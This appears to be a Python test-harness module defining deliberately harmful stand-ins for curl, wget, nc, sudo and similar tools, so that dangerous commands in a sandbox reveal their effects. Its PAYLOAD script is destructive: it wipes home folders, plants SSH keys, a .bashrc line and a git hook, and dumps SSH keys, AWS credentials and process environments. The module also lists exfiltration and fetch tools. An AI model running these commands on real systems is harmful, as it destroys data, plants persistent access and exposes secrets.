"""Stand-ins for programs that a machine lacks or that need a network, each as harmful as it gets.

Without them half of the dangerous commands would end in "command not found". What would be sent
is printed instead, so that a secret on its way out is seen; what would be fetched is a program that
does harm; what would raise rights just runs.
"""

from __future__ import annotations

_OPTIONS = """#!/bin/bash
while [[ $1 == -* || $1 == *=* ]]; do
  case $1 in -u|-g|-U|-C|-f|-p|--user|--group|--package) shift;; esac
  [[ $1 == -- ]] && { shift; break; }
  shift
done
"""
_RUN = _OPTIONS + '[[ $# -gt 0 ]] && exec "$@"\n'
_SHELL = """#!/bin/bash
while [[ $# -gt 0 ]]; do [[ $1 == -c ]] && exec bash -c "$2"; shift; done
exec bash
"""
_DELETE = '#!/bin/bash\nfor word; do [[ $word == -* ]] || rm -rf -- "$word"; done\n'
_SEND = """#!/bin/bash
for word; do
  word=${word#*@}; word=${word#file://}; word=${word#fileb://}; word=${word/#\\~/$HOME}
  [[ -f $word ]] && cat -- "$word"
  [[ -d $word ]] && tar -c -- "$word" 2>/dev/null
done
[[ -p /dev/stdin ]] && cat
true
"""
PAYLOAD = """\
echo planted >> "$HOME/.bashrc"
echo planted > "$HOME/.ssh/authorized_keys"
rm -rf "$HOME/work" "$HOME/Photos" "$HOME/.hermes"
echo planted > /tmp/planted; echo planted > .git/hooks/pre-push
cat "$HOME"/.ssh/id_* "$HOME/.aws/credentials" "$HOME/.netrc" /proc/*/environ
env
(setsid sleep 1000 &)
"""
_FETCH = (
    """#!/bin/bash
payload() { cat <<'PAYLOAD'
#!/bin/sh
"""
    + PAYLOAD
    + """PAYLOAD
}
where=
for word; do
  sent=${word#*@}; sent=${sent#file://}; sent=${sent#*=}; sent=${sent/#\\~/$HOME}
  [[ -f $sent && $last != -o && $last != -O ]] && cat -- "$sent"
  case $last in
    -o|--output|-qO|-O) where=$word;;
    -T|--upload-file|--post-file) cat -- "$word";;
    -P|--directory-prefix) folder=$word/;;
  esac
  [[ $word == -O || ( ${0##*/} == wget && $* != *O* ) ]] && name=yes
  last=$word
done
[[ $name && ( -z $where || $where == *://* ) ]] && where=$folder${last##*/}
if [[ -z $where || $where == - ]]; then payload; else payload > "$where"; chmod +x "$where"; fi
"""
)

RUNNERS = (
    "sudo", "doas", "pkexec", "run0", "gosu", "su-exec", "fakeroot", "proxychains", "torsocks",
    "npx", "bunx", "pipx", "uvx", "firejail", "unbuffer", "faketime", "daemonize",
)  # fmt: skip
SENDERS = (
    "nc", "ncat", "netcat", "socat", "telnet", "scp", "sftp", "ftp", "lftp", "rclone", "aws",
    "gsutil", "gcloud", "az", "gh", "mail", "mutt", "sendmail", "s3cmd", "mc", "croc", "wormhole",
    "transfer", "pbcopy", "xclip", "restic", "swaks", "ssh", "doctl",
)  # fmt: skip
DELETERS = ("rimraf", "trash", "trash-put", "srm", "wipe", "scrub", "del", "rmtrash")
FETCHERS = ("curl", "wget", "http", "https", "xh", "aria2c", "lynx", "fetch", "axel", "GET")

PROGRAMS = (
    dict.fromkeys(RUNNERS, _RUN)
    | dict.fromkeys(("su", "runuser"), _SHELL)
    | dict.fromkeys(SENDERS, _SEND)
    | dict.fromkeys(DELETERS, _DELETE)
    | dict.fromkeys(FETCHERS, _FETCH)
)
